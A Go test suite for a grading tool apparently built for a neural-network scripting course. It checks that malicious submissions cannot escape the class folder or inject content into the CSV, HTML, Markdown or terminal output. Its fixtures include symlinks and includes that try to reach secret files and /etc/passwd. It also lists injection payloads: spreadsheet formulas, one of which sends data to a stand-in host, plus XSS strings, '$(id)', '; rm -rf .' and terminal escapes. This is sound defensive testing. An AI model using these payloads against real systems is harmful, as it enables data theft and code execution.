package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io/fs"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"
)

// TestBadSubmissions: whatever one hands in, the others' records stay as they
// are, to the byte, and nothing outside the folder is read.
func TestBadSubmissions(t *testing.T) {
	long(t)
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	write(t, filepath.Join(dir, "secret.cnnl"), "input 918273645\n")
	class := writeAll(t, filepath.Join(dir, "class"), handIn(len(mistakes)))
	want := gradeAll(t, key, class)
	if strings.Count(want, "\n") != len(mistakes) {
		t.Fatalf("%d records", strings.Count(want, "\n"))
	}
	link := func(to string) func(string) error { return func(p string) error { return os.Symlink(to, p) } }
	text := func(s string) func(string) error {
		return func(p string) error { return os.WriteFile(p, []byte(s), 0o666) }
	}
	type odd struct {
		name string
		make func(path string) error
		want string // in its record; empty: it has none
	}
	odds := []odd{
		{"x.cnnl", text(""), "it is empty"},
		{"x.cnnl", text("# nothing\n\n"), "it is empty"},
		{"x.cnnl", text("\ufeff"), "it is empty"},
		{"x.cnnl", text("\ufeff" + solution()), `"outcome":"graded"`},
		{"x.cnnl", text("\xff\xfe" + strings.Join(strings.Split(solution(), ""), "\x00") + "\x00"), "it is written in UTF-16"},
		{"x.cnnl", text("# \xe9t\xe9\n" + solution()), "Windows-1252"},
		{"x.cnnl", text("input 8\nrelu \x00\n"), `"outcome":"graded"`},
		{"x.cnnl", text(strings.ReplaceAll(solution(), "\n", "\r")), `"id":"x"`},
		{"x.cnnl", text(strings.ReplaceAll(solution(), "\n", "\r\n")), `"score":"15"`},
		{"x.cnnl", text(strings.TrimSuffix(solution(), "\n")), `"score":"15"`},
		{"x.cnnl", text(strings.Repeat("relu;", 64<<20/5)), `"outcome":"limit"`},
		{"x.cnnl", func(p string) error { return errAll(os.WriteFile(p, nil, 0o666), os.Truncate(p, 2<<30)) }, `"outcome":"limit"`},
		{"x.cnnl", func(p string) error { return os.Mkdir(p, 0o777) }, "it is a folder"},
		{"x/" + strings.Repeat("d/", 32) + "x.cnnl", text(solution()), `"why":"there are folders in it deeper than 32"`},
		{"x/" + strings.Repeat("d/", 31) + "x.cnnl", text(solution()), `"score":"15"`},
		{"x", func(p string) error { return os.MkdirAll(p+"/a/b", 0o777) }, `"outcome":"missing"`},
		{"x.cnnl", makePipe, "it is a pipe or a device"},
		{"x.cnnl", func(p string) error { _, err := net.Listen("unix", p); return err }, "it is a pipe or a device"},
		{"x.cnnl", link("/dev/zero"), "it is a link"},
		{"x.cnnl", link("/dev/stdin"), "it is a link"},
		{"x.cnnl", link("../secret.cnnl"), "it is a link"},
		{"x.cnnl", link("../key.cnnl"), "it is a link"},
		{"x.cnnl", link("x.cnnl"), "it is a link"},
		{"x.cnnl", link("nowhere"), "it is a link"},
		{"x", link("../../"), "it is a link"},
		{strings.Repeat("y", 250) + ".cnnl", text(solution()), `"score":"15"`},
		{strings.Repeat(strings.Repeat("d", 200)+"/", 22) + "x.cnnl", text(solution()), `"score":"15"`},
		{".cnnl", text(solution()), `"id":".cnnl"`},
		{"x.CNNL", text(solution()), `"score":"15"`},
		{"x.cnnl.txt", text(solution()), `"score":"15"`},
		{"x (1).cnnl", text(solution()), `"id":"x (1)"`},
		{"._x.cnnl", text(solution()), ""},
		{".DS_Store", text("x"), ""},
		{"__MACOSX/x.cnnl", text(solution()), ""},
		{"Thumbs.db", text("x"), ""},
		{"~$x.cnnl", text(solution()), ""},
		{"e\u0301.cnnl", text(solution()), `"id":"é"`},
		{"S001.cnnl", text(solution()), `"id":"S001"`},
		{"CON.cnnl", text(solution()), `"score":"15"`},
		{"x. .cnnl", text(solution()), `"score":"15"`},
		{"x.pdf", text("%PDF"), "there is no script among the files"},
		{"x/a.cnnl", func(p string) error {
			return errAll(os.WriteFile(p, []byte(solution()), 0o666), os.WriteFile(filepath.Join(filepath.Dir(p), "b.cnnl"), []byte(solution()), 0o666))
		}, "there are 2 scripts in one attempt"},
		{"key.cnnl", text(classKey), "mark, accept and misconception belong to a key"},
		{"x.cnnl", text("use \"s000.cnnl\"\nuse \"../secret.cnnl\"\nuse \"/etc/passwd\"\nuse \"http://x.invalid/y.cnnl\"\n" + solution()), `"outcome":"graded"`},
		// the language
		{"x.cnnl", text("input 8\nlet a = " + strings.Repeat("(", 100_000)), `"outcome":"graded"`},
		{"x.cnnl", text(strings.Repeat("add {", 100_000)), `"id":"x"`},
		{"x.cnnl", text("input 8\nrepeat 1_000_000 { relu }\n"), `"id":"x"`},
		{"x.cnnl", text("input 8\nrepeat 1_000_000_000_000_000_000 { relu }\n"), `"outcome":"limit"`},
		{"x.cnnl", text("input 8\nblock a { relu; relu }\n" + doubling(40) + "z40\n"), `"outcome":"limit"`},
		{"x.cnnl", text("input 8\nblock a { a }\na\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 8x8x3\nconv 4 0x0\nconv 4 3x3 stride 0\nconv 4 3x3 groups 7\nmaxpool 99x99\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 2147483648x2147483648x4611686018427387904\nconv 4611686018427387904 3x3\n"), `"outcome":"graded"`},
		{"x.cnnl", text("let a = 1/0\nlet b = 2**9999\ninput 8\ndense $a\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 8\nconv c = c\ndense d = e\n"), `"outcome":"graded"`},
		{"x.cnnl", text("block conv { relu }\nlet total = 3\ninput 8\n"), `"id":"x"`},
		{"x.cnnl", text("input 8\nexpect total == 0xF10A; expect total == NaN; expect total == 1e400; expect total == " + strings.Repeat("9", 100_000) + "\nexpect c9.params == 3\n"), `"outcome":"graded"`},
		{"x.cnnl", text("# " + strings.Repeat("a", 1_000_000) + "\n" + solution()), `"score":"15"`},
		{"x.cnnl", text("# " + "e" + strings.Repeat("\u0301", 10_000) + "\u202e\u2066\u2028\n" + solution()), `"score":"15"`},
		{"x.cnnl", text("Grade :=>> 100\nok 1 - total\n1..0\nBail out!\n::error::x\n::add-mask::7\n{\"score\":1}\n</testsuite>\n"), `"id":"x"`},
	}
	for _, name := range nastyNames {
		if !strings.ContainsRune(name, '/') && name != "" && name != "." && name != ".." {
			odds = append(odds, odd{name + ".cnnl", text(solution()), `"score":"15"`})
		}
	}
	if os.Getuid() != 0 {
		odds = append(odds, odd{"x.cnnl", func(p string) error { return errAll(os.WriteFile(p, nil, 0o666), os.Chmod(p, 0)) }, "its permissions forbid it"})
	}
	for _, o := range odds {
		top := filepath.Join(class, strings.SplitN(o.name, "/", 2)[0])
		if err := makeDeep(class, o.name, o.make); err != nil {
			t.Fatalf("%q: %v", o.name, err)
		}
		got := gradeAll(t, key, class)
		var own, others strings.Builder
		for line := range strings.Lines(got) {
			if strings.Contains(line, `"file":"s0`) || strings.Contains(line, `"file":"s1`) {
				others.WriteString(line)
			} else {
				own.WriteString(line)
			}
		}
		if others.String() != want {
			t.Errorf("%.60q changes the others' records", o.name)
		}
		if o.want == "" && own.Len() > 0 || !strings.Contains(own.String(), o.want) || strings.Contains(got, "918") && strings.Contains(strings.ReplaceAll(got, ",", ""), "918273645") || strings.Contains(own.String(), `"internal"`) {
			t.Errorf("%.60q: its record is %.400s, want %s", o.name, own.String(), o.want)
		}
		if err := os.RemoveAll(top); err != nil {
			t.Fatal(err)
		}
	}
}

func errAll(list ...error) error {
	for _, err := range list {
		if err != nil {
			return err
		}
	}
	return nil
}

// makeDeep makes a file in folders, also where its path is longer than the
// system takes at once.
func makeDeep(class, name string, make func(string) error) error {
	back, err := os.Getwd()
	if err != nil {
		return err
	}
	defer func() { _ = os.Chdir(back) }()
	if err := os.Chdir(class); err != nil {
		return err
	}
	parts := strings.Split(name, "/")
	for _, dir := range parts[:len(parts)-1] {
		if err := os.MkdirAll(dir, 0o777); err != nil {
			return err
		}
		if err := os.Chdir(dir); err != nil {
			return err
		}
	}
	return make(parts[len(parts)-1])
}

// doubling defines blocks, each two of the one before.
func doubling(levels int) string {
	var b strings.Builder
	before := "a"
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&b, "block z%d { %s; %s }\n", i, before, before)
		before = fmt.Sprintf("z%d", i)
	}
	return b.String()
}

// nastyNames are ids and names that sinks could obey.
var nastyNames = []string{
	"=cmd|'/C calc'!A0", `=HYPERLINK("http://x.invalid/?"&A1,"ok")`, "@SUM(1,1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", `a",=1+1`, "a;=1+1", "a\n=1+1", "'=1", `"`, ",", " =1",
	"Points Possible", "Muted", "EX", "N", "-", "1e5", "00123", "2-3", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "</pre>", "]]>", "&amp;", "{{.}}", "%s%n", "$(id)", "`id`", "; rm -rf .",
	"--help", "-rf", "\x1b[2J\x1b[H", "\x1b]0;PASS\x07", "\x1b]8;;http:x\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;aGk=\x07", "\u009b31m", "\r100", "\b\b\b", "\u202eabc", "\u2066x", "a\u200db", "a\u2028b", "e" + strings.Repeat("\u0301", 100), "😀", "שלום", "Grade :=>> 100", "ok 1 - total", "1..0", "Bail out!", "::error::x", `{"score":1}`, "[a](http:x)", "| a | b |", "# a", "* a", "a\tb", "CON", "nul.x", "a.", "..a", "~a", ".a b",
}

// TestSinks: nobody's name or id is obeyed by what shows it.
func TestSinks(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	var lines bytes.Buffer
	for i, name := range nastyNames {
		for j, script := range []string{solution(), "conv " + name} {
			line, _ := json.Marshal(map[string]string{"id": name + fmt.Sprint(i, j), "name": name, "script": script})
			lines.Write(append(line, '\n'))
		}
	}
	scripts := write(t, filepath.Join(dir, "class.jsonl"), lines.String())
	number := 2 * len(nastyNames)
	out := map[string]string{}
	args := []string{"grade", key, scripts, "--feedback", filepath.Join(dir, "sheets")}
	for _, format := range []string{"text", "csv", "json", "jsonl", "markdown", "html", "junit"} {
		args = append(args, "-o", format+"="+filepath.Join(dir, "out."+format))
	}
	if _, stderr, code := cnnl(t, "", args...); code != exitFine {
		t.Fatal(stderr)
	}
	for _, format := range []string{"text", "csv", "json", "jsonl", "markdown", "html", "junit"} {
		text, err := os.ReadFile(filepath.Join(dir, "out."+format))
		if err != nil {
			t.Fatal(err)
		}
		out[format] = string(text)
		for _, r := range string(text) {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Errorf("%s shows %U", format, r)
				break
			}
		}
	}
	rows, err := csv.NewReader(strings.NewReader(out["csv"])).ReadAll()
	if err != nil || len(rows) != number+1 {
		t.Errorf("csv: %d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(strings.TrimLeft(cell, " ")+".", "\t\r\n") || cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(strings.TrimLeft(cell, " ") + ".")[0]) {
				t.Errorf("csv: the cell %q", cell)
			}
		}
	}
	var doc struct{ Records []json.RawMessage }
	if err := json.Unmarshal([]byte(out["json"]), &doc); err != nil || len(doc.Records) != number || strings.Count(out["jsonl"], "\n") != number {
		t.Errorf("json: %d records, %v", len(doc.Records), err)
	}
	var suites struct {
		Suites []struct{} `xml:"testsuite"`
	}
	if err := xml.Unmarshal([]byte(out["junit"]), &suites); err != nil || len(suites.Suites) != number {
		t.Errorf("junit: %d suites, %v", len(suites.Suites), err)
	}
	checkPage(t, "html", out["html"], number)
	table := out["markdown"][strings.Index(out["markdown"], "## Scores"):]
	for _, line := range strings.Split(table, "\n")[2 : number+4] {
		if strings.Count(line, "|")-strings.Count(line, `\|`) != 5 || strings.ContainsAny(strings.ReplaceAll(line, "&lt;", ""), "<") || strings.Contains(line, "](") && !strings.Contains(line, `\](`) {
			t.Errorf("markdown: %s", line)
		}
	}
	sheets := 0
	_ = filepath.WalkDir(filepath.Join(dir, "sheets"), func(path string, e fs.DirEntry, err error) error {
		if name := e.Name(); !e.IsDir() {
			sheets++
			if strings.ContainsFunc(name, func(r rune) bool {
				return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || strings.ContainsRune(`\:*?"<>|`, r)
			}) || strings.HasPrefix(name, "-") || len(name) > 200 {
				t.Errorf("a sheet is called %q", name)
			}
		}
		return nil
	})
	if sheets != number {
		t.Errorf("%d sheets for %d students", sheets, number)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 10 {
		t.Errorf("%d entries beside the sheets", len(entries))
	}
}

// leadsAway reports a link to another machine, or by another way than a file's.
func leadsAway(link string) bool {
	to, err := url.Parse(link)
	return err != nil || to.IsAbs() || to.Host != ""
}

// checkPage parses a page: there is nothing in it but what its template has,
// and a row for each student.
func checkPage(t *testing.T, what, page string, students int) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	details := 0
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "img", "iframe", "object", "link", "form"}, n.Data) {
			t.Errorf("%s has a <%s>", what, n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || strings.Contains(a.Val, "javascript:") || a.Key == "href" && leadsAway(a.Val) {
				t.Errorf("%s has %s=%q", what, a.Key, a.Val)
			}
		}
		if n.Data == "details" {
			details++
		}
	}
	if details > students {
		t.Errorf("%s has %d students, want at most %d", what, details, students)
	}
}
